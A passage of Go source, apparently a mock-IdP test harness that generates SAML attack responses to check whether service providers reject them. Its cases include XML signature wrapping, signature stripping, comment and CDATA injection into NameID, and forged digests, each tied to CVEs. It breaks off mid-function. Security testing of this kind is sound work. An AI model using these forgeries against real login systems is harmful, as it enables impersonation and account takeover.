package mockidp

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"time"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// References shared by the XML Signature Wrapping cases.
var xswRefs = []string{"Somorovsky et al. 2012, On Breaking SAML", "SAMLRaider XSWHelpers"}

func refs(extra ...string) []string {
	return append(append([]string(nil), xswRefs...), extra...)
}

// Paths of the signed parts the wrapping cases keep.
const (
	pathResponseSig   = "/samlp:Response/ds:Signature"
	pathAssertion1    = "/samlp:Response/saml:Assertion[1]"
	pathAssertion2    = "/samlp:Response/saml:Assertion[2]"
	pathAssertion1Sig = "/samlp:Response/saml:Assertion[1]/ds:Signature"
	pathAssertion2Sig = "/samlp:Response/saml:Assertion[2]/ds:Signature"
)

// BaselineControl is S01: the baseline itself, the positive control that
// calibrates the oracle. A correct SP accepts it as the expected principal.
func BaselineControl() Attack {
	return Attack{ID: "S01", Title: "baseline response (positive control)",
		References: []string{"CATALOGUE §5.3"}, Oracle: OracleAccepts,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations:     []Mutation{signWith(SignAssertion)}}
}

// SignatureRemoved is S02: the response is signed, then every ds:Signature
// is removed (the "unsigned" variant is never signed at all). CVE-2012-5352
// (JOSSO), CVE-2012-5353 (OpenAthens), CVE-2020-12676 (FusionAuth).
func SignatureRemoved() Attack {
	return Attack{ID: "S02", Variant: "stripped", Title: "every ds:Signature removed after signing",
		References: []string{"CVE-2012-5352", "CVE-2012-5353", "CVE-2020-12676"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignBoth), StripSignature()}}
}

// NeverSigned is S02 in its other shape: a response that was never signed.
func NeverSigned() Attack {
	return Attack{ID: "S02", Variant: "unsigned", Title: "response and assertion never signed",
		References: []string{"CVE-2012-5352", "CVE-2012-5353", "CVE-2020-12676"}, Oracle: OracleRejects,
		Mutations: []Mutation{Unsigned()}}
}

// ResponseSignedOnly is S03: the Response is signed, the Assertion is not.
// A policy case (gosaml2 issues #199 and #219): an SP that requires signed
// assertions refuses it; otherwise it may accept, since the Response
// signature covers the assertion.
func ResponseSignedOnly() Attack {
	return Attack{ID: "S03", Title: "Response signed, Assertion unsigned (policy)",
		References: []string{"gosaml2 issues #199 and #219"}, Oracle: OracleAccepts,
		StillVerifies: []SignedPart{{Name: "the response", Element: "/samlp:Response", Signature: pathResponseSig}},
		Mutations:     []Mutation{signWith(SignResponse)}}
}

// UnsignedResponseEdited is S04: the Assertion is signed, the Response is
// not, and a Response field is edited after signing: field is
// "destination", "inresponseto" or "status". The unsigned Response fields
// must still be validated (SAML Profiles §4.1.4.3).
func UnsignedResponseEdited(field string) Attack {
	a := Attack{ID: "S04", Variant: field, References: []string{"SAML Profiles 4.1.4.3"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}}}
	edit := func(doc *etree.Document) error {
		resp, err := response(doc)
		if err != nil {
			return err
		}
		switch field {
		case "destination":
			resp.CreateAttr("Destination", "https://attacker.invalid/acs")
		case "inresponseto":
			resp.CreateAttr("InResponseTo", NewID())
		case "status":
			code := resp.FindElement("samlp:Status/samlp:StatusCode")
			if code == nil {
				return errors.New("no samlp:StatusCode")
			}
			code.CreateAttr("Value", StatusResponder)
		default:
			return fmt.Errorf("unknown Response field %q (destination, inresponseto, status)", field)
		}
		return nil
	}
	a.Title = "Assertion signed, Response unsigned, Response " + field + " edited"
	a.Mutations = []Mutation{signWith(SignAssertion), afterSigning("edit-response-"+field, edit)}
	return a
}

// FlippedSignatureByte is S05: one base64 character of the SignatureValue
// (what = "signature") or of the DigestValue (what = "digest") is changed
// after signing (gosaml2 olgn09 cases 11–15).
func FlippedSignatureByte(what string) Attack {
	tag := map[string]string{"signature": dsig.SignatureValueTag, "digest": dsig.DigestValueTag}[what]
	return Attack{ID: "S05", Variant: what, Title: "one character of the " + what + " value changed",
		References: []string{"gosaml2 olgn09 cases 11-15"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("flip-"+what, func(doc *etree.Document) error {
			if tag == "" {
				return fmt.Errorf("unknown value %q to flip (signature, digest)", what)
			}
			els := findAll(doc.Root(), nsDSig, tag)
			if len(els) == 0 {
				return fmt.Errorf("no ds:%s", tag)
			}
			text := []byte(els[0].Text())
			if len(text) < 8 {
				return fmt.Errorf("ds:%s too short to flip", tag)
			}
			i := len(text) / 2
			if text[i] == 'A' {
				text[i] = 'B'
			} else {
				text[i] = 'A'
			}
			els[0].SetText(string(text))
			return nil
		})}}
}

// EditedAfterSigning is S06: content of the signed assertion changed after
// signing. what is "nameid" (the victim's NameID), "email" (the victim's
// email in the email attribute), "audience" (another SP's audience) or
// "conditions" (NotOnOrAfter a day later). Onelogin and crewjam fixtures.
func EditedAfterSigning(what string, v Victim) Attack {
	edit := func(doc *etree.Document) error {
		_, as, err := responseParts(doc)
		if err != nil {
			return err
		}
		switch what {
		case "nameid":
			id := as.FindElement("saml:Subject/saml:NameID")
			if id == nil {
				return errors.New("no saml:NameID")
			}
			id.SetText(v.NameID)
		case "email":
			n := 0
			for _, at := range findAll(as, nsAssertion, "Attribute") {
				if at.SelectAttrValue("Name", "") == v.emailAttribute() {
					for _, val := range findAll(at, nsAssertion, "AttributeValue") {
						val.SetText(v.Email)
						n++
					}
				}
			}
			if n == 0 {
				return fmt.Errorf("no %q attribute to edit", v.emailAttribute())
			}
		case "audience":
			aud := as.FindElement("saml:Conditions/saml:AudienceRestriction/saml:Audience")
			if aud == nil {
				return errors.New("no saml:Audience")
			}
			aud.SetText("https://other-sp.invalid/metadata")
		case "conditions":
			c := as.SelectElement("saml:Conditions")
			if c == nil {
				return errors.New("no saml:Conditions")
			}
			t, err := time.Parse(samlTime, c.SelectAttrValue("NotOnOrAfter", ""))
			if err != nil {
				return fmt.Errorf("Conditions NotOnOrAfter: %w", err)
			}
			c.CreateAttr("NotOnOrAfter", t.Add(24*time.Hour).Format(samlTime))
		default:
			return fmt.Errorf("unknown edit %q (nameid, email, audience, conditions)", what)
		}
		return nil
	}
	return Attack{ID: "S06", Variant: what, Title: "signed assertion's " + what + " edited after signing",
		References: []string{"onelogin fixtures", "crewjam tests"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("edit-"+what, edit)}}
}

// XSW1 is S07 (SAMLRaider XSW1): the Response is signed; the root Response
// becomes the evil one (fresh ID, the victim in its assertion) and keeps
// the Signature; the pristine Response, without its Signature, is appended
// inside that ds:Signature, where the Reference's ID now resolves.
// Also the class of CVE-2020-5407, CVE-2024-6800, CVE-2025-47949 and
// CVE-2025-46572; crewjam TestXswPermutationOne.
func XSW1(v Victim) Attack {
	return xswResponse("S07", "XSW1", "pristine Response inside ds:Signature, evil root", v, true)
}

// XSW2 is S08 (SAMLRaider XSW2): as XSW1, the pristine Response placed
// before the ds:Signature, as a child of the evil root.
func XSW2(v Victim) Attack {
	return xswResponse("S08", "XSW2", "pristine Response before ds:Signature, evil root", v, false)
}

func xswResponse(id, name, title string, v Victim, inside bool) Attack {
	elem := "/samlp:Response/samlp:Response"
	if inside {
		elem = "/samlp:Response/ds:Signature/samlp:Response"
	}
	return Attack{ID: id, Title: name + ": " + title, References: refs("SAMLRaider " + name), Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the pristine Response", Element: elem, Signature: pathResponseSig}},
		Mutations: []Mutation{signWith(SignResponse), afterSigning(name, func(doc *etree.Document) error {
			resp, err := response(doc)
			if err != nil {
				return err
			}
			sig, err := ownSignature(resp)
			if err != nil {
				return err
			}
			pristine, err := turnEvil(resp, v, true)
			if err != nil {
				return err
			}
			if inside {
				sig.AddChild(pristine)
			} else {
				resp.InsertChildAt(sig.Index(), pristine)
			}
			return nil
		})}}
}

// XSW3 is S09 (SAMLRaider XSW3; CVE-2016-5697, ruby-saml): an unsigned evil
// copy of the signed Assertion (fresh ID, the victim) inserted before it.
func XSW3(v Victim) Attack {
	return evilSibling("S09", "", "XSW3: unsigned evil Assertion before the signed one",
		refs("SAMLRaider XSW3", "CVE-2016-5697"), v, true, true)
}

// XSW3After is S15 (SAMLRaider issue #59; CVE-2021-28091, Lasso): XSW3
// reversed, the unsigned evil Assertion (fresh ID) after the signed one.
func XSW3After(v Victim) Attack {
	return evilSibling("S15", "", "XSW3 reversed: unsigned evil Assertion after the signed one",
		refs("SAMLRaider issue #59", "CVE-2021-28091"), v, false, true)
}

// TwoAssertionsClone is S16 (CVE-2022-41912, crewjam < 0.4.9; SAMLRaider
// CVE_2022_41912.java): two Assertions, the first the signed one, the
// second an unsigned edited clone that keeps the same ID.
func TwoAssertionsClone(v Victim) Attack {
	return evilSibling("S16", "", "two Assertions: the signed one, then an unsigned edited clone with its ID",
		[]string{"CVE-2022-41912", "SAMLRaider CVE_2022_41912.java"}, v, false, false)
}

// DuplicateID is S29 ("The Fragile Lock"; jellyfin-plugin-sso #153): the
// unsigned evil Assertion carries the same ID as the signed one and comes
// first in document order, so ID resolution is ambiguous.
func DuplicateID(v Victim) Attack {
	return evilSibling("S29", "duplicate-id", "duplicate ID: unsigned evil Assertion with the signed one's ID, first",
		[]string{"PortSwigger, The Fragile Lock", "jellyfin-plugin-sso #153"}, v, true, false)
}

func evilSibling(id, variant, title string, references []string, v Victim, before, freshID bool) Attack {
	signed := SignedPart{Name: "the signed Assertion", Element: pathAssertion2, Signature: pathAssertion2Sig}
	if !before {
		signed = SignedPart{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}
	}
	return Attack{ID: id, Variant: variant, Title: title, References: references, Oracle: OracleRejects,
		StillVerifies: []SignedPart{signed},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("evil-assertion", func(doc *etree.Document) error {
			resp, as, err := responseParts(doc)
			if err != nil {
				return err
			}
			if _, err := ownSignature(as); err != nil {
				return err
			}
			evil, err := forgedCopy(as, v, freshID)
			if err != nil {
				return err
			}
			at := as.Index()
			if !before {
				at++
			}
			resp.InsertChildAt(at, evil)
			return nil
		})}}
}

// XSW4 is S10 (SAMLRaider XSW4): the signed Assertion moved inside an
// unsigned evil copy of itself (fresh ID, the victim), which takes its
// place in the Response.
func XSW4(v Victim) Attack {
	return Attack{ID: "S10", Title: "XSW4: signed Assertion nested inside the evil Assertion", References: refs("SAMLRaider XSW4"),
		Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the nested signed Assertion",
			Element: "/samlp:Response/saml:Assertion/saml:Assertion", Signature: "/samlp:Response/saml:Assertion/saml:Assertion/ds:Signature"}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("XSW4", func(doc *etree.Document) error {
			resp, as, evil, err := forgeAssertion(doc, v, true)
			if err != nil {
				return err
			}
			resp.RemoveChild(as)
			resp.AddChild(evil)
			evil.AddChild(as)
			return nil
		})}}
}

// XSW5 is S11 (SAMLRaider XSW5): the Assertion in place becomes the evil
// one (fresh ID, the victim) and keeps the Signature; the pristine copy,
// without the Signature, is appended to the Response.
func XSW5(v Victim) Attack {
	return evilKeepsSignature("S11", "XSW5", "evil Assertion keeps the Signature, pristine copy appended to the Response",
		"/samlp:Response/saml:Assertion[2]", v, true, func(resp, _, pristine *etree.Element) {
			resp.AddChild(pristine)
		})
}

// XSW6 is S12 (SAMLRaider XSW6): as XSW5, the pristine copy appended
// inside the evil Assertion's ds:Signature.
func XSW6(v Victim) Attack {
	return evilKeepsSignature("S12", "XSW6", "pristine copy inside the evil Assertion's ds:Signature",
		"/samlp:Response/saml:Assertion/ds:Signature/saml:Assertion", v, true, func(_, sig, pristine *etree.Element) {
			sig.AddChild(pristine)
		})
}

// XSW8 is S14 (SAMLRaider XSW8): the evil Assertion keeps the Signature and
// the ID; the pristine copy goes into a ds:Object appended to the
// Signature.
func XSW8(v Victim) Attack {
	return evilKeepsSignature("S14", "XSW8", "pristine copy with the same ID in ds:Object inside the Signature",
		"/samlp:Response/saml:Assertion/ds:Signature/ds:Object/saml:Assertion", v, false, func(_, sig, pristine *etree.Element) {
			obj := sig.CreateElement(sig.Space + ":Object")
			obj.AddChild(pristine)
		})
}

func evilKeepsSignature(id, name, title, pristinePath string, v Victim, freshID bool, place func(resp, sig, pristine *etree.Element)) Attack {
	return Attack{ID: id, Title: name + ": " + title, References: refs("SAMLRaider " + name), Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the pristine Assertion", Element: pristinePath, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning(name, func(doc *etree.Document) error {
			resp, as, sig, err := signedAssertion(doc)
			if err != nil {
				return err
			}
			pristine, err := turnEvil(as, v, freshID)
			if err != nil {
				return err
			}
			place(resp, sig, pristine)
			return nil
		})}}
}

// XSW7 is S13 (SAMLRaider XSW7; lightsaml GHSA-w553-pwx6-3mg9; OneUptime
// #2949): an unsigned evil copy with the same ID inside an Extensions
// element before the signed Assertion. qualified false writes Extensions
// in no namespace, as SAMLRaider does; true writes samlp:Extensions at its
// schema position.
func XSW7(v Victim, qualified bool) Attack {
	variant, tag := "unqualified", "Extensions"
	if qualified {
		variant, tag = "samlp-extensions", "samlp:Extensions"
	}
	return Attack{ID: "S13", Variant: variant, Title: "XSW7: evil copy with the same ID inside " + tag,
		References: refs("SAMLRaider XSW7", "GHSA-w553-pwx6-3mg9", "OneUptime #2949"), Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("XSW7-"+variant, func(doc *etree.Document) error {
			resp, as, evil, err := forgeAssertion(doc, v, false)
			if err != nil {
				return err
			}
			ext := etree.NewElement(tag)
			ext.AddChild(evil)
			at := as.Index()
			if qualified {
				at = schemaPosition(resp)
			}
			resp.InsertChildAt(at, ext)
			return nil
		})}}
}

// TwoSignedAssertions is S17 (CVE-2021-28091, Lasso; gosaml2 commit
// 9957448): an unsigned Response carrying two Assertions, each signed by
// idp (the trusted IdP), the second for the victim. A correct SP refuses
// the bundle and never mixes identity data from the two. gosaml2 v0.12.0
// accepts it (OracleGap): it returns both assertions and takes NameID from
// the first.
func TwoSignedAssertions(v Victim, idp *Identity) Attack {
	return Attack{ID: "S17", Title: "unsigned Response with two signed Assertions for different users",
		References: []string{"CVE-2021-28091", "gosaml2 commit 9957448"}, Oracle: OracleGap,
		StillVerifies: []SignedPart{
			{Name: "the first signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig},
			{Name: "the victim's signed Assertion", Element: pathAssertion2, Signature: pathAssertion2Sig}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("second-signed-assertion", func(doc *etree.Document) error {
			resp, as, err := responseParts(doc)
			if err != nil {
				return err
			}
			ctx, err := SignOptions{Identity: idp}.signingContext()
			if err != nil {
				return err
			}
			second, err := forgedCopy(as, v, true)
			if err != nil {
				return err
			}
			resp.InsertChildAt(as.Index()+1, second)
			return signElement(ctx, second, false)
		})}}
}

// NestedAssertion is S18 (OWASP "absolute XPath"; WS-Attacker descendant
// axis): the signed Assertion stays in place and a forged, unsigned
// Assertion for the victim (fresh ID) is nested where an unanchored
// //Assertion finds it: where is "extensions" (samlp:Extensions) or
// "statusdetail" (samlp:Status/samlp:StatusDetail).
func NestedAssertion(v Victim, where string) Attack {
	return Attack{ID: "S18", Variant: where, Title: "forged Assertion nested in " + where + " beside the signed one",
		References: []string{"OWASP SAML Security Cheat Sheet (absolute XPath)", "WS-Attacker"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("nest-in-"+where, func(doc *etree.Document) error {
			resp, _, evil, err := forgeAssertion(doc, v, true)
			if err != nil {
				return err
			}
			switch where {
			case "extensions":
				ext := etree.NewElement("samlp:Extensions")
				ext.AddChild(evil)
				resp.InsertChildAt(schemaPosition(resp), ext)
			case "statusdetail":
				st := resp.SelectElement("samlp:Status")
				if st == nil {
					return errors.New("no samlp:Status")
				}
				st.CreateElement("samlp:StatusDetail").AddChild(evil)
			default:
				return fmt.Errorf("unknown nesting place %q (extensions, statusdetail)", where)
			}
			return nil
		})}}
}

// commentIn inserts <!----> into the text of the first element named tag
// (any prefix) whose whole text is full, right after its prefix keep.
func commentIn(name, tag, full, keep string) Mutation {
	re := regexp.MustCompile(`<(?:[A-Za-z_][\w.-]*:)?` + tag + `\b[^>]*>(` + regexp.QuoteMeta(escapeText(full)) + `)<`)
	return Mutation{Name: name, Stage: RawBytes, Raw: func(b []byte) []byte {
		loc := re.FindSubmatchIndex(b)
		if loc == nil || keep == "" || len(keep) >= len(full) || full[:len(keep)] != keep {
			return b
		}
		pos := loc[2] + len(escapeText(keep))
		return splice(b, pos, pos, "<!---->")
	}}
}

// escapeText is text as etree writes it.
func escapeText(s string) string {
	if s == "" {
		return "" // etree writes <x/>, which has no text to cut out
	}
	var buf bytes.Buffer
	d := etree.NewDocument()
	d.SetRoot(etree.NewElement("x"))
	d.Root().SetText(s)
	if _, err := d.WriteTo(&buf); err != nil {
		return s // a bytes.Buffer does not fail
	}
	out := buf.String()
	if !strings.HasPrefix(out, "<x>") || !strings.HasSuffix(out, "</x>") {
		return s
	}
	return out[len("<x>") : len(out)-len("</x>")]
}

// splice replaces b[from:to] with s.
func splice(b []byte, from, to int, s string) []byte {
	out := make([]byte, 0, len(b)-(to-from)+len(s))
	out = append(out, b[:from]...)
	out = append(out, s...)
	return append(out, b[to:]...)
}

// NameIDComment is S21 (CVE-2017-11427 python-saml, -11428 ruby-saml,
// -11429 saml2-js, -11430 omniauth-saml, CVE-2018-0489 Shibboleth,
// CVE-2018-5387, CVE-2018-7340; crewjam PR #140): the IdP signs the NameID
// v.NameID+suffix (an account the attacker may register), then <!----> is
// inserted after v.NameID. Exclusive C14N drops the comment, so the
// signature holds; a reader of the first text node sees the victim. The SP
// must log in as the full value or refuse.
func NameIDComment(v Victim, suffix string) Attack {
	return Attack{ID: "S21", Title: "comment injected into the signed NameID after the victim's value",
		References:    []string{"CVE-2017-11427", "CVE-2017-11428", "CVE-2017-11429", "CVE-2017-11430", "CVE-2018-0489", "CVE-2018-5387", "CVE-2018-7340"},
		Oracle:        OracleAcceptsHonest,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion),
			nameIDSuffix(v, suffix),
			CommentInNameID(v.NameID)}}
}

// EmailComment is S22: the S21 comment trick inside the email
// AttributeValue. The IdP signs the email v.Email+suffix; <!----> goes in
// after v.Email. No truncated email may be used for matching or linking.
func EmailComment(v Victim, suffix string) Attack {
	full := v.Email + suffix
	return Attack{ID: "S22", Title: "comment injected into the signed email attribute after the victim's email",
		References: []string{"CVE-2017-11427", "CVE-2017-11428", "CVE-2018-0489"}, Oracle: OracleAcceptsHonest,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion),
			{Name: "email-attacker-suffix", Stage: BeforeSigning, Spec: func(s *ResponseSpec) {
				if s.Assertion == nil {
					return
				}
				for i, at := range s.Assertion.Attributes {
					if at.Name == v.emailAttribute() {
						s.Assertion.Attributes[i].Values = []string{full}
						return
					}
				}
				s.AddAttribute(v.emailAttribute(), full)
			}},
			commentIn("comment-in-email", "AttributeValue", full, v.Email)}}
}

// NameIDSplitText is S23 (CVE-2025-54419 / CVE-2025-54369, node-saml):
// edits that canonicalisation undoes but a naive reader sees. The IdP signs
// v.NameID+suffix; how is "cdata" (the victim's part wrapped in a CDATA
// section: a reader of the first text or non-CDATA node sees only one
// part) or "charref" (the first character of suffix written as a character
// reference: a reader of the raw bytes up to '&' sees the victim).
func NameIDSplitText(v Victim, suffix, how string) Attack {
	full := v.NameID + suffix
	re := regexp.MustCompile(`(<(?:[A-Za-z_][\w.-]*:)?NameID\b[^>]*>)(` + regexp.QuoteMeta(escapeText(full)) + `)<`)
	raw := func(b []byte) []byte {
		loc := re.FindSubmatchIndex(b)
		if loc == nil || suffix == "" || v.NameID == "" {
			return b
		}
		victim, rest := escapeText(v.NameID), escapeText(suffix)
		var text string
		switch how {
		case "cdata":
			text = "<![CDATA[" + v.NameID + "]]>" + rest
		case "charref":
			r := []rune(suffix)
			text = victim + fmt.Sprintf("&#x%X;", r[0]) + escapeText(string(r[1:]))
		default:
			return b
		}
		return splice(b, loc[4], loc[5], text)
	}
	return Attack{ID: "S23", Variant: how, Title: "NameID split by " + how + ", invisible to canonicalisation",
		References: []string{"CVE-2025-54419", "CVE-2025-54369"}, Oracle: OracleAcceptsHonest,
		StillVerifies: []SignedPart{{Name: "the assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignAssertion),
			nameIDSuffix(v, suffix),
			{Name: "nameid-" + how, Stage: RawBytes, Raw: raw}}}
}

// DigestValueComment is S31 (CVE-2025-29775, xml-crypto "SAMLStorm"): the
// signed Assertion's NameID becomes the victim's after signing, and the
// digest of that forged Assertion goes into a comment placed first in
// ds:DigestValue, before the genuine digest. Exclusive C14N drops the
// comment, so the SignatureValue over SignedInfo still verifies; a verifier
// that reads DigestValue's first child sees a digest that matches the
// forgery.
func DigestValueComment(v Victim) Attack {
	return Attack{ID: "S31", Title: "forged Assertion, its digest in a comment first in ds:DigestValue",
		References: []string{"CVE-2025-29775"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the SignatureValue over SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("digest-in-comment", func(doc *etree.Document) error {
			_, as, sig, err := signedAssertion(doc)
			if err != nil {
				return err
			}
			dv := sig.FindElement(sig.Space + ":SignedInfo/" + sig.Space + ":Reference/" + sig.Space + ":DigestValue")
			if dv == nil {
				return errors.New("no ds:DigestValue")
			}
			forged, err := forgeInPlace(as, v)
			if err != nil {
				return err
			}
			dv.InsertChildAt(0, etree.NewComment(forged))
			return nil
		})}}
}

// forgeInPlace puts the victim into the signed assertion as and returns
// the digest of the forgery.
func forgeInPlace(as *etree.Element, v Victim) (string, error) {
	if err := impersonate(as, v); err != nil {
		return "", err
	}
	return referenceDigest(as)
}

// referenceDigest is the base64 SHA-256 digest of el under the enveloped
// signature and exclusive C14N transforms.
func referenceDigest(el *etree.Element) (string, error) {
	d, err := detach(el)
	if err != nil {
		return "", err
	}
	if sig := childNS(d, nsDSig, "Signature"); sig != nil {
		d.RemoveChild(sig)
	}
	canon, err := dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("").Canonicalize(d)
	if err != nil {
		return "", fmt.Errorf("canonicalise %s: %w", el.FullTag(), err)
	}
	sum := sha256.Sum256(canon)
	return base64.StdEncoding.EncodeToString(sum[:]), nil
}

// EarlierDigestValue is S24 (CVE-2024-45409, ruby-saml "Incorrect XPath
// selector"; ssoready): the genuine SignedInfo and SignatureValue are kept,
// the signed Assertion's subject becomes the victim's, and a second
// ds:DigestValue that matches the forged Assertion is placed earlier in
// document order, in samlp:Status/samlp:StatusDetail. A verifier that takes
// the first //ds:DigestValue of the document finds a matching digest.
func EarlierDigestValue(v Victim) Attack {
	return Attack{ID: "S24", Title: "forged Assertion, a matching ds:DigestValue earlier in StatusDetail",
		References: []string{"CVE-2024-45409"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the SignatureValue over SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("digest-in-statusdetail", func(doc *etree.Document) error {
			resp, as, err := responseParts(doc)
			if err != nil {
				return err
			}
			st := resp.SelectElement("samlp:Status")
			if st == nil {
				return errors.New("no samlp:Status")
			}
			forged, err := forgeInPlace(as, v)
			if err != nil {
				return err
			}
			dv := st.CreateElement("samlp:StatusDetail").CreateElement("ds:DigestValue")
			dv.CreateAttr("xmlns:ds", nsDSig)
			dv.SetText(forged)
			return nil
		})}}
}

// EmptyReferenceURI is S32 (goxmldsig validateSignature, the URI == ""
// branch; OWASP): the IdP signs the Response with Reference URI="", which
// XML Signature defines as the whole document; the signed Response is then
// moved into the samlp:Extensions of an evil, unsigned Response (fresh ID,
// the victim) that becomes the document. goxmldsig reads URI="" as "the
// element being validated", so the nested Response still verifies; for
// the document the signature names, the digest no longer holds. The
// baseline signing step is replaced (the trace says "not signed", then
// this signing).
func EmptyReferenceURI(v Victim, idp *Identity) Attack {
	nested := "/samlp:Response/samlp:Extensions/samlp:Response"
	return Attack{ID: "S32", Title: `Response signed with Reference URI="", wrapped in an evil Response`,
		References:    []string{"goxmldsig validateSignature (URI == \"\")", "XML Signature 4.4.3.2", "OWASP SAML Security Cheat Sheet"},
		Oracle:        OracleRejects,
		StillVerifies: []SignedPart{{Name: `the nested Response signed with URI=""`, Element: nested, Signature: nested + "/ds:Signature"}},
		Mutations: []Mutation{signWith(SignNone),
			afterSigning("sign-response-uri-empty", func(doc *etree.Document) error {
				resp, err := response(doc)
				if err != nil {
					return err
				}
				ctx, err := SignOptions{Identity: idp}.signingContext()
				if err != nil {
					return err
				}
				// No element has this attribute, so goxmldsig writes URI="".
				ctx.IdAttribute = "provcheck-no-such-id"
				return signElement(ctx, resp, false)
			}),
			afterSigning("wrap-in-evil-response", func(doc *etree.Document) error {
				resp, err := response(doc)
				if err != nil {
					return err
				}
				evil, err := forgedCopy(resp, v, true)
				if err != nil {
					return err
				}
				doc.RemoveChild(resp)
				doc.SetRoot(evil)
				ext := etree.NewElement("samlp:Extensions")
				ext.AddChild(resp)
				evil.InsertChildAt(schemaPosition(evil), ext)
				return nil
			})}}
}

// SecondSignedInfo is S30 in its two-SignedInfo form (CVE-2025-29774,
// xml-crypto; CVE-2026-33487, goxmldsig < 1.6.0): the signed Assertion's
// subject becomes the victim's after signing, and a second ds:SignedInfo,
// a copy of the genuine one whose DigestValue matches the forged
// Assertion, follows the SignatureValue. A verifier that checks the
// SignatureValue over the first SignedInfo and the digests of the last is
// fooled.
func SecondSignedInfo(v Victim) Attack {
	return Attack{ID: "S30", Variant: "two-signedinfo", Title: "forged Assertion, a second SignedInfo with its digest",
		References: []string{"CVE-2025-29774", "CVE-2026-33487"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the SignatureValue over the first SignedInfo", Signature: pathAssertion1Sig, SignedInfoOnly: true}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("second-signedinfo", func(doc *etree.Document) error {
			_, as, sig, err := signedAssertion(doc)
			if err != nil {
				return err
			}
			si := childNS(sig, nsDSig, dsig.SignedInfoTag)
			sv := childNS(sig, nsDSig, dsig.SignatureValueTag)
			if si == nil || sv == nil {
				return errors.New("signature without SignedInfo or SignatureValue")
			}
			forged, err := forgeInPlace(as, v)
			if err != nil {
				return err
			}
			second := si.Copy()
			dv := second.FindElement(sig.Space + ":Reference/" + sig.Space + ":DigestValue")
			if dv == nil {
				return errors.New("no ds:DigestValue")
			}
			dv.SetText(forged)
			sig.InsertChildAt(sv.Index()+1, second)
			return nil
		})}}
}

// DonorAssertion is S20 (CVE-2024-9487, "signed SAML response or metadata
// document"; passport-saml GHSA-m974-647v-whv7): the IdP signs an
// Assertion for another SP (Audience otherSP: the donor), and an unsigned
// forged copy for the victim, addressed to sp, is placed before it. The
// donor's signature is genuine; nothing signed names sp or the victim.
func DonorAssertion(v Victim, sp SPInfo, otherSP string) Attack {
	return Attack{ID: "S20", Variant: "other-sp-assertion", Title: "an assertion signed for another SP as donor, a forged one for this SP before it",
		References: []string{"CVE-2024-9487", "GHSA-m974-647v-whv7"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the donor Assertion", Element: pathAssertion2, Signature: pathAssertion2Sig}},
		Mutations: []Mutation{signWith(SignAssertion),
			specEdit("donor-audience", func(_ *ResponseSpec, a *AssertionSpec) {
				if a.Conditions != nil {
					a.Conditions.Audiences = []string{otherSP}
				}
			}),
			afterSigning("forged-before-donor", func(doc *etree.Document) error {
				resp, as, evil, err := forgeAssertion(doc, v, true)
				if err != nil {
					return err
				}
				for _, aud := range findAll(evil, nsAssertion, "Audience") {
					aud.SetText(sp.EntityID)
				}
				resp.InsertChildAt(as.Index(), evil)
				return nil
			})}}
}

// SignedCommentWithComments is S34 (the .NET SafeCanonicalizationMethods
// note, cited in jellyfin-plugin-sso #137): the NameID v.NameID+suffix
// carries <!----> after v.NameID before signing, and the assertion is
// signed with exclusive C14N #WithComments for both SignedInfo and the
// Reference, so the comment itself is signed. An SP must refuse
// comment-preserving canonicalisation, or read the full text; a reader of
// the first text node sees the victim. The baseline signing step is
// replaced (the trace says "not signed", then this signing).
func SignedCommentWithComments(v Victim, suffix string, idp *Identity) Attack {
	return Attack{ID: "S34", Title: "comment in NameID signed under exc-c14n#WithComments",
		References:    []string{".NET SignedXml SafeCanonicalizationMethods", "jellyfin-plugin-sso #137", "CVE-2017-11427"},
		Oracle:        OracleAcceptsHonest,
		StillVerifies: []SignedPart{{Name: "the assertion signed with comments", Element: pathAssertion1, Signature: pathAssertion1Sig}},
		Mutations: []Mutation{signWith(SignNone), nameIDSuffix(v, suffix),
			{Name: "comment-in-nameid", Stage: BeforeSigning, Tree: func(doc *etree.Document) error {
				_, as, err := responseParts(doc)
				if err != nil {
					return err
				}
				id := as.FindElement("saml:Subject/saml:NameID")
				if id == nil || id.Text() != v.NameID+suffix || suffix == "" {
